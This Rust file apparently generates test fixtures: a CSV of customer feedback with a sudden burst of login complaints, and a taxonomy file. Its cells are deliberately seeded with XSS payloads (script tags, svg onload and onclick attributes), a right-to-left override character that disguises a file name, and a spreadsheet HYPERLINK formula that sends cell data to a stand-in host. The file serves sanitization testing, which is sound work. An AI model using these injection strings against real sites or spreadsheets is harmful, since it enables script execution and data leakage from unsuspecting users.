//! Feedback by people who would run something in a colleague's browser or spreadsheet: so much of it, and so suddenly, that
//! there are cases, an alert and a digest of it. `hostile.py` looks at what comes of it.

use crate::support::planted::this_hour;
use chrono::{DateTime, Datelike as _, Duration, Timelike as _, Utc};
use std::fmt::Write as _;
use std::path::Path;

const DAYS: i64 = 63;
/// Hours of the last complete week in which it has begun, so that its digest tells of it.
const BEFORE_MONDAY: i64 = 36;
const AN_HOUR: usize = 3;

const USUAL: [&str; 5] = [
    "Lovely boards, they are a joy to use",
    "The price is fair for what we get",
    "Search finds what I am looking for",
    "I like the new look of the reports",
    "The login page is fine",
];
const SUDDEN: [&str; 3] = [
    "I cannot log in, the login page never loads",
    "The login fails again and again",
    "Nobody of us can log in, the login code never arrives",
];
/// What would run; what would be a formula; what would turn the words around it.
const ELEMENT: &str = "\"><svg onload=window.ran=1>";
const SCRIPT: &str = "<script>window.ran=1</script>";
const FORMULA: &str = "=HYPERLINK(\"//evil.example?\"&A1,\"window.ran=1\")";
const TURNED: &str = "safe \u{202e}txt.exe\u{202c} window.ran=1";

/// Answers to the NPS question, each of another person, up to the last whole hour.
pub fn write(path: &Path) {
    let this_hour = this_hour();
    let begins = this_monday(this_hour) - Duration::hours(BEFORE_MONDAY);
    let mut rows = "id,score,text,author.email,occurred_at,product,author.segment,app_version,author.account,platform,tags\n"
        .to_owned();
    let mut id = 0;
    for back in (1..=24 * DAYS).rev() {
        let at = this_hour - Duration::hours(back);
        let is_sudden = at >= begins;
        let (texts, many): (&[&str], usize) = match (is_sudden, back % 3) {
            (true, _) => (&SUDDEN, AN_HOUR),
            (false, 0) => (&USUAL, 1),
            (false, _) => continue,
        };
        for _ in 0..many {
            writeln!(rows, "{}", row(id, at, texts, is_sudden)).unwrap();
            id += 1;
        }
    }
    std::fs::write(path, rows).unwrap();
}

fn row(id: usize, at: DateTime<Utc>, texts: &[&str], is_sudden: bool) -> String {
    let words = texts[id % texts.len()];
    let text = match id / texts.len() % 4 {
        0 => format!("{FORMULA} {words} ({id})"),
        1 => format!("{words} {ELEMENT} ({id})"),
        2 => format!("{SCRIPT} {words} ({id})"),
        _ => format!("{words} {TURNED} ({id})"),
    };
    // What happened comes from some of them.
    let (product, segment) =
        if is_sudden || id.is_multiple_of(4) { (SCRIPT, ELEMENT) } else { ("Larchdeck", "team") };
    let at = (at + Duration::minutes((id * 7 % 60) as i64)).format("%Y-%m-%dT%H:%M:00Z").to_string();
    let (score, email, account) = (
        if is_sudden { id % 4 } else { 8 },
        format!("u{id}@planted.example"),
        format!("{TURNED} {}", id % 9),
    );
    let cells = [
        &id.to_string(),
        &score.to_string(),
        &text,
        &email,
        &at,
        product,
        segment,
        ELEMENT,
        &account,
        SCRIPT,
        FORMULA,
    ];
    cells.map(|cell| format!("\"{}\"", cell.replace('"', "\"\""))).join(",")
}

/// When this week began.
fn this_monday(now: DateTime<Utc>) -> DateTime<Utc> {
    now - Duration::days(now.weekday().num_days_from_monday().into()) - Duration::hours(now.hour().into())
}

/// The built-in taxonomy, with names and owners that would run as well.
pub fn write_taxonomy(path: &Path) {
    let built_in = std::fs::read_to_string(xtask::paths::root().join("config/taxonomy.toml")).unwrap();
    let hostile = |field: &str| format!("\n{field} = \"<i onclick=window.ran=1>\\u202e");
    let named = ["name", "owner"]
        .iter()
        .fold(built_in, |text, field| text.replace(&format!("\n{field} = \""), &hostile(field)));
    std::fs::write(path, named).unwrap();
}
